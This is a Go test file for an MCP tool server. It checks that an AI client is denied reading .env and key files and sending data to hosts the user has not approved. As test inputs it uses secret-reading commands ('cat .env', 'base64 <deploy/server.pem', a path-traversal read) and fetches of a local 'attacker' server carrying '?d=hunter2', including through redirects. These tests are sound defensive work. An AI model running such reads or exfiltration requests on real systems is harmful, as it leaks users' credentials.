package main_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// allowLoopback lets the person's requests reach servers of this machine.
func (h *home) allowLoopback() {
	h.t.Helper()
	dir := strings.TrimSpace(h.rye("where", "config"))
	if err := os.MkdirAll(dir, 0o700); err != nil {
		h.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "policy.yaml"), []byte("policy: 1\nnet: {allow: [127.0.0.1]}\n"), 0o600); err != nil {
		h.t.Fatal(err)
	}
}

func execute(t *testing.T, s *mcp.ClientSession, id string, params map[string]any) (code, text string) {
	t.Helper()
	got, _ := call(t, s, "execute", map[string]any{"item_type": "tool", "item_id": id, "parameters": params})
	raw, _ := json.Marshal(got)
	code, _ = got["code"].(string)
	return code, string(raw)
}

// TestSecretsAreAskedAbout: a client read .env unasked.
func TestSecretsAreAskedAbout(t *testing.T) {
	t.Parallel()
	needBash(t)
	h := newHome(t)
	h.write(".env", "TOKEN=hunter2\n")
	h.write("deploy/server.pem", "hunter2\n")
	h.write(".env.example", "TOKEN=\n")
	h.write("notes.txt", "no hunter2 here\n")
	h.write(".ai/tools/acme/show.sh", "#!/usr/bin/env bash\n# version: 1.0.0\n# executor_id: rye/core/runtimes/bash_runtime\n# description: X.\n"+
		"# config_schema: {type: object, properties: {file: {type: string}}}\ncat \"$RYE_PARAM_FILE\"\n")
	h.rye("sign", "--all")
	s, _ := h.connect(nil)
	for _, c := range []struct {
		id     string
		params map[string]any
	}{
		{"rye/file-system/read", map[string]any{"path": ".env"}},
		{"rye/file-system/read", map[string]any{"path": "deploy/../.env"}},
		{"rye/file-system/read", map[string]any{"path": filepath.Join(h.dir, ".env")}},
		{"rye/file-system/read", map[string]any{"path": "deploy/server.pem"}},
		{"rye/file-system/grep", map[string]any{"pattern": "TOKEN", "path": ".env"}},
		{"rye/file-system/grep", map[string]any{"pattern": "hunter2", "include": "*.pem"}},
		{"rye/bash/bash", map[string]any{"command": "cat .env"}},
		{"rye/bash/bash", map[string]any{"command": "base64 <deploy/server.pem"}},
		{"acme/show", map[string]any{"file": ".env"}},
	} {
		if code, said := execute(t, s, c.id, c.params); code != "denied" || strings.Contains(said, "hunter2") {
			t.Errorf("%s %v: %s", c.id, c.params, said)
		}
	}
	for _, params := range []map[string]any{{"pattern": "hunter2"}, {"pattern": "hunter2", "include": ".e*"}, {"pattern": "hunter2", "path": "deploy"}} {
		if code, said := execute(t, s, "rye/file-system/grep", params); code != "" || strings.Contains(said, "TOKEN=hunter2") || strings.Contains(said, "server.pem") ||
			!strings.Contains(said, "secret_files_skipped") && !strings.Contains(said, `"count":0`) {
			t.Errorf("grep %v: %s", params, said)
		}
	}
	for id, path := range map[string]string{"rye/file-system/read": ".env.example", "rye/file-system/ls": "deploy"} {
		if code, said := execute(t, s, id, map[string]any{"path": path}); code != "" {
			t.Errorf("%s %s: %s", id, path, said)
		}
	}
	if r, exit := h.tool("file-system/read", `{"path":".env"}`); exit != 0 || !strings.Contains(string(r.Data), "hunter2") {
		t.Errorf("typed by a person: %d, %s", exit, r.Data)
	}
	asked := 0
	h.lists("test")
	yes, _ := h.connect(&mcp.ClientOptions{ElicitationHandler: approveAll(&asked)})
	for range 2 {
		if code, said := execute(t, yes, "rye/file-system/read", map[string]any{"path": ".env"}); code != "" || !strings.Contains(said, "hunter2") {
			t.Errorf("agreed to: %s", said)
		}
	}
	if asked != 2 {
		t.Errorf("asked %d times, want each time", asked)
	}
}

// TestHostsAreAskedAbout: a client sent what it had read to any host, unasked.
func TestHostsAreAskedAbout(t *testing.T) {
	t.Parallel()
	var requests atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		w.Write([]byte("thank you"))
	}))
	defer attacker.Close()
	friend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if to := q.URL.Query().Get("to"); to != "" {
			http.Redirect(w, q, to, http.StatusFound)
			return
		}
		w.Write([]byte("welcome"))
	}))
	defer friend.Close()
	h := newHome(t)
	h.allowLoopback()
	fetch := func(s *mcp.ClientSession, address string) (code, said string) {
		return execute(t, s, "rye/web/webfetch", map[string]any{"url": address, "format": "text"})
	}
	s, _ := h.connect(nil)
	if code, said := fetch(s, attacker.URL+"/?d=hunter2"); code != "denied" || !strings.Contains(said, "rye approve") {
		t.Errorf("a new host: %s", said)
	}
	at, _ := url.Parse(friend.URL)
	h.rye("policy", "allow", "tool:rye/web/webfetch", "--host", friend.URL)
	if code, said := fetch(s, friend.URL+"/x"); code != "" || !strings.Contains(said, "welcome") {
		t.Errorf("an agreed host: %s", said)
	}
	if code, said := fetch(s, friend.URL+"/?to="+url.QueryEscape(attacker.URL+"/?d=hunter2")); code != "denied" {
		t.Errorf("a redirect to a new host: %s", said)
	}
	if requests.Load() != 0 {
		t.Fatalf("the attacker got %d requests", requests.Load())
	}
	// Another project has agreed to nothing.
	b := h.another("b")
	other, _ := h.connect(nil, "-C", b)
	if code, said := fetch(other, friend.URL+"/x"); code != "denied" {
		t.Errorf("in another project: %s", said)
	}
	h.rye("policy", "allow", "tool:rye/web/webfetch", "--host", at.Host, "--host", friend.URL, "--forget")
	if code, said := fetch(s, friend.URL+"/x"); code != "denied" {
		t.Errorf("forgotten: %s", said)
	}
	// A person at the client is asked once, with all that is sent, and a no is not remembered.
	var asked []string
	answer := "decline"
	h.lists("test")
	person, _ := h.connect(&mcp.ClientOptions{ElicitationHandler: func(_ context.Context, q *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		asked = append(asked, q.Params.Message)
		return &mcp.ElicitResult{Action: answer, Content: map[string]any{"approve": answer == "accept"}}, nil
	}})
	if code, said := fetch(person, friend.URL+"/?q=everything"); code != "denied" {
		t.Errorf("not agreed to: %s", said)
	}
	answer = "accept"
	for range 2 {
		if code, said := fetch(person, friend.URL+"/?q=everything"); code != "" {
			t.Errorf("agreed to: %s", said)
		}
	}
	if len(asked) != 2 || !strings.Contains(asked[0], "q=everything") || !strings.Contains(asked[0], at.Host) {
		t.Errorf("asked %q", asked)
	}
	if out := h.rye("execute", "tool:rye/web/webfetch", "-p", "url="+attacker.URL); !strings.Contains(out, "thank you") {
		t.Errorf("typed by a person: %s", out)
	}
}

// approveAll says yes to everything that it is asked.
func approveAll(asked *int) func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
	return func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		*asked++
		return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"approve": true}}, nil
	}
}

// TestASearchOfTheWebHasOneHost: who sets WEBSEARCH_URL agrees that questions go there. A model
// searches without being asked about, and can make them go nowhere else.
func TestASearchOfTheWebHasOneHost(t *testing.T) {
	t.Parallel()
	var stolen atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
	defer attacker.Close()
	service := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if q.FormValue("q") == "elsewhere" {
			http.Redirect(w, q, attacker.URL+"/?d=hunter2", http.StatusFound)
			return
		}
		w.Write([]byte(`{"results":[{"title":"found ` + q.FormValue("q") + `","url":"https://example.org/"}]}`))
	}))
	defer service.Close()
	h := newHome(t)
	h.allowLoopback()
	s, _ := h.connect(nil)
	search := func(s *mcp.ClientSession, params map[string]any) (code, said string) {
		return execute(t, s, "rye/web/websearch", params)
	}
	if code, said := search(s, map[string]any{"query": "x"}); code != "usage" || !strings.Contains(said, "WEBSEARCH_URL is not set") {
		t.Errorf("without a service: %s", said)
	}
	h.env = append(h.env, "WEBSEARCH_URL="+service.URL)
	s, _ = h.connect(nil)
	if code, said := search(s, map[string]any{"query": "rye"}); code != "" || !strings.Contains(said, "found rye") {
		t.Errorf("a search: %s", said)
	}
	for name, params := range map[string]map[string]any{
		"another service":  {"query": "x", "url": attacker.URL},
		"a variable":       {"query": "x", "WEBSEARCH_URL": attacker.URL},
		"a redirect":       {"query": "elsewhere"},
		"another provider": {"query": "x", "provider": attacker.URL},
	} {
		if code, said := search(s, params); name != "another provider" && code == "" {
			t.Errorf("%s: %s", name, said)
		}
	}
	if n := stolen.Load(); n != 0 {
		t.Errorf("the attacker got %d requests", n)
	}
}
